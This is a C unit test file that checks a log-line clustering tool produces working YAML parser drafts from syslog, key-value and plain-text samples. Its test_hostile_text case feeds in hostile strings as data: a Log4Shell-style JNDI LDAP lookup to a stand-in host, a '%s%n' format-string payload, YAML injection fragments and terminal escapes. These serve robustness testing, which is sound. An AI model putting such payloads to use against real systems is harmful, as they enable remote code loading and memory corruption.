/* SPDX-License-Identifier: Apache-2.0 */
/* Whatever lines come, a draft of them loads as a source file and knows its samples. */
#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>

#include <cmocka.h>

#include "base/io.h"
#include "drain/draft.h"
#include "parse/source.h"

#define COUNT(array) (sizeof(array) / sizeof((array)[0]))

static const char *names_file;

static void complain(void *context, const struct err *err)
{
	print_error("%u:%u: %s\n", err->line, err->column, err->message);
	++*(int *)context;
}

/* The draft of one program's lines, tried by the parser. */
static void try(const char *const *lines, size_t count, enum drain_form form, const char *program,
		const char *const *wanted)
{
	struct drain *drain = drain_new();
	char folder[] = "/tmp/wanglou-draft-XXXXXX", path[64];
	struct source_set *set = NULL;
	struct draft_names names;
	struct buf out = {0};
	struct err err = {0};
	int complaints = 0;

	for (size_t i = 0; i < count; i++) {
		char raw[4096];
		struct drain_line line = {.form = form,
					  .program = str_of(program, strlen(program)),
					  .text = str_of(lines[i], strlen(lines[i]))};

		if (*program)
			snprintf(raw, sizeof(raw), "<13>Nov 22 10:00:00 host %s: %s", program, lines[i]);
		else
			snprintf(raw, sizeof(raw), "%s", lines[i]);
		line.raw = str_from(raw);
		drain_add(drain, &line);
	}
	assert_int_equal(draft_names_load(names_file, &names, &err), 0);
	draft_write(&names, STR("draft-x"), drain_list(drain), drain_count(drain), &out);
	for (; *wanted; wanted++)
		if (!strstr(buf_cstr(&out), *wanted))
			fail_msg("no '%s' in:\n%s", *wanted, buf_cstr(&out));
	assert_non_null(mkdtemp(folder));
	snprintf(path, sizeof(path), "%s/draft.yaml", folder);
	assert_int_equal(io_replace_file(path, out.ptr, out.len, 0600), 0);
	assert_int_equal(source_set_load(folder, complain, &complaints, &set), 0);
	if (complaints || source_set_count(set) != 1 || source_test(set, 0, complain, &complaints))
		fail_msg("the draft does not work:\n%s", buf_cstr(&out));
	source_set_free(set);
	unlink(path);
	rmdir(folder);
	draft_names_done(&names);
	buf_done(&out);
	drain_free(drain);
}

static void test_sentences(void **state)
{
	static const char *const lines[] = {
		"account wang locked after 6 tries from 10.0.0.8 (policy 'strict')",
		"account li locked after 5 tries from 10.0.0.7 (policy 'strict')",
		"fan 3: 100% of [limit] reached? {x} a|b ^ $ \\ * + # .", "用户 wang 从 10.0.0.8 登录"};

	(void)state;
	try(lines, COUNT(lines), DRAIN_SYSLOG, "gate",
	    (const char *const[]){"program: 'gate'", "user.name: user_name", "source.ip: source_ip", NULL});
}

static void test_pairs(void **state)
{
	static const char *const lines[] = {"srcip=10.0.0.1,dstip=203.0.113.4,dport=80,action=deny",
					    "srcip=10.0.0.2,dstip=203.0.113.4,dport=81,action=deny"};

	(void)state;
	try(lines, COUNT(lines), DRAIN_SYSLOG, "fw",
	    (const char *const[]){"kv: {separator: ','}", "source.ip: srcip", "destination.port: dport",
				  NULL});
}

static void test_text_without_a_header(void **state)
{
	static const char *const lines[] = {"ALARM zone 5", "ALARM zone 6", "7 doors are open"};

	(void)state;
	try(lines, COUNT(lines), DRAIN_TEXT, "",
	    (const char *const[]){"prefix: ['ALARM']", "contains: ['doors']", NULL});
}

static void test_hostile_text(void **state)
{
	static const char *const lines[] = {"'; set: {x: y} # \x01\x1b[2J", "\"quoted\" 'single' \xff\xfe",
					    "${jndi:ldap://192.0.2.1/a} %s%n", "a: - b ? c & *d !e |"};

	(void)state;
	try(lines, COUNT(lines), DRAIN_SYSLOG, "it's", (const char *const[]){"id: draft-x", NULL});
}

int main(int argc, char **argv)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test(test_sentences),
		cmocka_unit_test(test_pairs),
		cmocka_unit_test(test_text_without_a_header),
		cmocka_unit_test(test_hostile_text),
	};

	if (argc < 2)
		return 1;
	names_file = argv[1];
	return cmocka_run_group_tests(tests, NULL, NULL);
}
